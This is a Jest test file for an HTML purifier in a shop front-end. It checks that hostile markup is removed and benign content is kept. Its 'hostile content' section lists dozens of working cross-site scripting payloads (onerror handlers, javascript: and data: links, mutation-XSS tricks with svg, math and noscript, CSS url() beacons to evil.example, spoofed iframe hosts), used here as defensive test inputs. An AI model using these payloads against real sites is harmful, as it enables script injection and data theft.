import { describe, expect, test } from '@jest/globals';
import { JSDOM } from 'jsdom';
import { createHtmlPurifier, openPurifier } from './htmlPurifier';
import { imageAddress } from './imageAddress';
import { linkTarget } from './Link';
import type { Surroundings } from './surroundings';

const purify = createHtmlPurifier(new JSDOM('').window);
const surroundings: Surroundings = {
  name: 'test',
  linkTarget: (href) => linkTarget(href, { hosts: ['www.steadwell.example'], basename: '/fr-be' }),
  imageAddress,
  after: () => () => undefined,
};
const pure = (html: string) => purify(html, surroundings);
/** The same for a tree that is written in pieces. */
const { read, seal } = openPurifier(new JSDOM('').window);
const sealed = (html: string) => {
  const root = read(html, surroundings);
  return seal(root)(root.innerHTML);
};
/** What a browser would make of the purified text. */
const treeOf = (html: string, text = pure(html)) => new JSDOM(text).window.document.body;

describe('hostile content', () => {
  const expectHarmless = (html: string, text: string) => {
    const body = treeOf(html, text);
    expect(
      body.querySelectorAll('script, style, object, embed, base, meta, link, form, input, svg, math, template, foreignObject'),
    ).toHaveLength(0);
    for (const element of body.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^srcdoc$|^formaction$|^action$/);
        if (name === 'href') expect(value).not.toMatch(/^[\s\0-\x20]*(javascript|data|vbscript|blob):|^[/\\]{2}/i);
        if (name !== 'href' && name !== 'title') expect(value).not.toContain('evil.example');
        if (name === 'src' || name === 'srcset') expect(value).not.toMatch(/^\s*(javascript|data|blob):/i);
      }
    }
    for (const link of body.querySelectorAll('a[data-path]')) expect(link.getAttribute('data-path')).not.toMatch(/^\/[/\\]/);
    expect(text).not.toMatch(/<iframe[^>]+evil/);
  };

  test.each<[string, string]>([
    ['a script', '<p>ok</p><script>alert(1)</script>'],
    ['an event handler', '<img src="/media/a.jpg" onerror="alert(1)">'],
    ['a handler behind a broken quote', '<img src="x" title="\\"><img src=x onerror=alert(1)>">'],
    ['a javascript link', '<a href="javascript:alert(1)">ok</a>'],
    ['a javascript link with a line break', '<a href="java\nscript:alert(1)">ok</a>'],
    ['a javascript link in entities', '<a href="&#106;avascript&colon;alert(1)">ok</a>'],
    ['a data link', '<a href="data:text/html,<script>alert(1)</script>">ok</a>'],
    ['a vbscript link', '<a href="vbscript:msgbox(1)">ok</a>'],
    ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
    ['an svg animation', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
    ['mathml that reparses', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
    ['noscript that reparses', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['a style element', '<style>body{background:url(https://evil.example/x)}</style><p>ok</p>'],
    ['a foreign frame', '<iframe src="https://evil.example/"></iframe>'],
    ['a frame that pretends', '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/1"></iframe>'],
    ['a frame with its own document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['a form', '<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">ok</button></form>'],
    ['a base and a refresh', '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a foreign picture', '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">'],
    ['a foreign background', '<div style="background-image: url(https://evil.example/x.png)">ok</div>'],
    ['a background with escapes', '<div style="background-image: u\\72l(https://evil.example/x.png)">ok</div>'],
    ['a protocol-relative link', '<a href="//evil.example/x">ok</a>'],
    ['a path that becomes a host', '<a href="/..//evil.example">ok</a>'],
    ['a javascript link with a tab in entities', '<a href="jav&#x09;ascript:alert(1)">ok</a>'],
    ['a javascript link behind control characters', '<a href="&#1;javascript:alert(1)">ok</a>'],
    ['a link to a blob', '<a href="blob:https://evil.example/1">ok</a>'],
    ['a backslash that becomes a host', '<a href="/\\evil.example/x">ok</a><a href="\\\\evil.example/x">ok</a>'],
    ['a link that tells others', '<a href="/basket" ping="https://evil.example/ping">ok</a>'],
    ['a link of a picture map', '<map name="m"><area href="javascript:alert(1)" shape="default"></map>'],
    ['handlers that nobody has to start', '<details open ontoggle="alert(1)">ok</details><marquee onstart="alert(1)">ok</marquee>'],
    ['a handler in capitals, cut by a slash', '<IMG/SRC=x/ONERROR=alert(1)>'],
    ['a tag that is never closed', '<p>ok</p><img src=x onerror=alert(1) '],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>--><p>ok</p>'],
    ['CDATA', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
    ['a foreign object in a drawing', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'],
    ['a drawing that uses another', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'],
    ['a formula that is a link', '<math><a xlink:href="javascript:alert(1)">ok</a></math>'],
    [
      'a formula with a form in it',
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    ],
    ['a table that moves what is in it', '<table><svg><style><td title="</style><img src=x onerror=alert(1)>"></td></style></svg></table>'],
    ...['xmp', 'noembed', 'noframes', 'textarea', 'title', 'plaintext', 'select', 'template'].map((tag): [string, string] => [
      `text in <${tag}> that reparses`,
      `<${tag}><p title="</${tag}><img src=x onerror=alert(1)>"></${tag}>`,
    ]),
    ['a template with a shadow', '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>'],
    ['an element of another name', '<x-evil onclick="alert(1)"><script>alert(1)</script></x-evil>'],
    ['a button that sends elsewhere', '<button form="f" formaction="https://evil.example/" formmethod="post">ok</button>'],
    ['a frame whose host stands behind a name', '<iframe src="https://player.vimeo.com@evil.example/video/1"></iframe>'],
    ['a frame of an allowed host, on another port', '<iframe src="https://player.vimeo.com:8443/evil.example"></iframe>'],
    ['a frame that is a script', '<iframe src="javascript:alert(1)//https://player.vimeo.com/video/1"></iframe>'],
    ['a frame without encryption', '<iframe src="http://player.vimeo.com/video/evil.example"></iframe>'],
    [
      'the second picture of a list',
      '<picture><source srcset="/media/a.jpg 1x, https://evil.example/2.gif 2x"><img src="/media/a.jpg"></picture>',
    ],
    [
      'a source with two addresses',
      '<picture><source src="/media/a.jpg" srcset="https://evil.example/2.gif"><img src="/media/a.jpg"></picture>',
    ],
    ['a foreign film and its poster', '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.gif"></video>'],
    ['foreign subtitles', '<video src="/media/a.mp4"><track src="https://evil.example/a.vtt" default></video>'],
    ['a foreign sound', '<audio autoplay><source src="https://evil.example/a.mp3"></audio>'],
    [
      'the background of a table',
      '<table background="https://evil.example/a.gif"><tr><td background="https://evil.example/b.gif">ok</td></tr></table>',
    ],
    ['a background of several pictures', '<div style="background: url(/media/a.jpg), url(https://evil.example/x.png)">ok</div>'],
    ['a background in image-set', '<div style="background-image: image-set(\'https://evil.example/x.png\' 1x)">ok</div>'],
    ['a background that is data', '<div style="background-image: url(data:image/svg+xml,evil.example)">ok</div>'],
    [
      'a list sign, a cursor and a border of others',
      '<ul style="list-style: url(https://evil.example/x); cursor: url(https://evil.example/x), auto; border-image: url(https://evil.example/x) 1"><li>ok</li></ul>',
    ],
    ['a style with a comment', '<div style="background-image: u/**/rl(https://evil.example/x.png)">ok</div>'],
    [
      'a style of old browsers',
      '<div style="width: expression(alert(1)); behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x)">ok</div>',
    ],
    ['a style element inside an attribute', '<p title="<style>a{}</style> onclick=alert(1) "><style>" onmouseover=alert(1)</style>ok</p>'],
    ['style rules that end early', '<style>a{}</style ><img src=x onerror=alert(1)></style><p>ok</p>'],
    ['style rules with another element in them', '<style>a{}<img src=x onerror=alert(1)></style><p>ok</p>'],
    ['style rules that fetch', '<style>@import "https://evil.example/x.css"; a[href^="x"]{background:url(https://evil.example/y)}</style>'],
  ])('%s does nothing', (_name, html) => {
    expectHarmless(html, pure(html));
    expectHarmless(html, sealed(html));
  });

  test('names cannot replace those of the page', () => {
    const body = treeOf('<img name="cookie"><a id="root" href="#root">up</a><label for="root">x</label>');
    expect(body.querySelector('#root, [name="cookie"]')).toBeNull();
    expect(body.querySelector('a')).toMatchObject({ id: 'content-root' });
    expect(body.querySelector('a')?.getAttribute('href')).toBe('#content-root');
  });

  test('a style that covers the page loses what covers it', () => {
    const style = treeOf('<div style="position: fixed; inset: 0; z-index: 9; color: red">x</div>')
      .querySelector('div')
      ?.getAttribute('style');
    expect(style).toBe('color: red');
  });
});

describe('content that is hard to read', () => {
  const words = (html: string) => treeOf(html).textContent?.trim();

  test('in a frameset shows what stands in it', () => {
    expect(words('<frameset cols="50%"><frame src="https://evil.example/"></frameset>')).toBe('');
    expect(words('<FRAMESET><p>Words</p></FRAMESET>')).toBe('Words');
  });

  test('a thousand times too deep keeps its words, and loses the elements around them', () => {
    const body = treeOf(`${'<div>'.repeat(5_000)}<p>Deep <b>down</b></p>${'</div>'.repeat(5_000)}<p>After</p>`);
    expect(body.textContent).toBe('Deep downAfter');
    expect(body.querySelectorAll('div').length).toBeLessThan(200);
    expect(body.lastElementChild?.textContent).toBe('After');
  });

  test('deep, but as an editor may write it, stays as it is', () => {
    const list = `<ul>${'<li>a'.repeat(300)}</ul>${'<p>b'.repeat(300)}<table>${'<tr><td>1<td>2'.repeat(300)}</table>`;
    expect(treeOf(list).querySelectorAll('li, p, td')).toHaveLength(1200);
  });

  test('with more elements than anybody can read through shows its words, line by line', () => {
    const reports: string[] = [];
    const rows = '<div class="a > b"><script>alert(1)</script><h2>Width &amp; depth</h2><p>71 <b>cm</b> < 80 cm</p></div>'.repeat(5_000);
    const text = purify(rows, { ...surroundings, name: 'reporting', report: (problem) => reports.push(problem) });
    const body = treeOf('', text);
    expect(body.textContent?.startsWith('Width & depth\n71 cm < 80 cm\nWidth & depth\n')).toBe(true);
    expect(body.querySelectorAll('*')).toHaveLength(1);
    expect(reports).toEqual(['content shown as its words: a content with too many tags']);
  });
});

describe('benign content', () => {
  const page = `<div data-content-type="row" data-appearance="contained"><h2 data-content-type="heading">Our homes</h2>
    <div data-content-type="text"><p>One &amp; two, <strong>three</strong> <em>four</em>.</p><ul><li>a</li><li>b</li></ul></div>
    <table><thead><tr><th scope="col">Width</th></tr></thead><tbody><tr><td>71 cm</td></tr></tbody></table>
    <div data-content-type="column" style="width: 50%; text-align: center; padding: 10px;">x</div></div>`;

  test('keeps all its text, nodes and attributes', () => {
    const before = new JSDOM(page).window.document.body;
    const after = treeOf(page);
    expect(after.textContent).toBe(before.textContent);
    expect(after.querySelectorAll('*')).toHaveLength(before.querySelectorAll('*').length);
    expect(after.querySelector('[data-content-type="row"]')?.getAttribute('data-appearance')).toBe('contained');
    expect(after.querySelector('[data-content-type="column"]')?.getAttribute('style')).toBe(
      'width: 50%; text-align: center; padding: 10px',
    );
  });

  test('links of the shop stay in the shop, with the store view’s prefix', () => {
    const [own, absolute, foreign, phone] = treeOf(
      '<a href="/basket?x=1">a</a><a href="https://www.steadwell.example/fr-be/basket">b</a><a href="https://other.example/">c</a><a href="tel:+44800">d</a>',
    ).querySelectorAll('a');
    expect(own?.outerHTML).toBe('<a href="/fr-be/basket?x=1" data-path="/basket?x=1">a</a>');
    expect(absolute?.getAttribute('data-path')).toBe('/basket');
    expect(foreign?.outerHTML).toBe('<a href="https://other.example/" rel="noopener noreferrer">c</a>');
    expect(phone?.getAttribute('href')).toBe('tel:+44800');
  });

  test('a link to a place on the page is a step of the shop, and the browser’s own without a script', () => {
    const tree = treeOf('<a href="#repair">a</a><h2 id="repair">b</h2>');
    expect(tree.querySelector('a')?.outerHTML).toBe('<a href="#content-repair" data-path="#content-repair">a</a>');
    expect(tree.querySelector('h2')?.id).toBe('content-repair');
  });

  test('pictures come through the shop in several sizes', () => {
    const image = treeOf('<img src="https://commerce.example/media/wysiwyg/hall.jpg" alt="A hall">').querySelector('img');
    expect(image?.getAttribute('src')).toBe('/media/wysiwyg/hall.jpg?auto=webp&format=pjpg&width=1280&quality=85&crop=false&fit=cover');
    expect(image?.getAttribute('srcset')).toContain('width=640&quality=85&crop=false&fit=cover 640w');
    expect(image?.getAttribute('alt')).toBe('A hall');
  });

  test('a film from an allowed place stays', () => {
    const frame = treeOf('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Film" allowfullscreen></iframe>').querySelector(
      'iframe',
    );
    expect(frame?.getAttribute('src')).toBe('https://www.youtube-nocookie.com/embed/abc');
    expect(frame?.getAttribute('title')).toBe('Film');
  });

  test('purifying twice changes nothing more', () => {
    expect(pure(pure(page))).toBe(pure(page));
  });
});
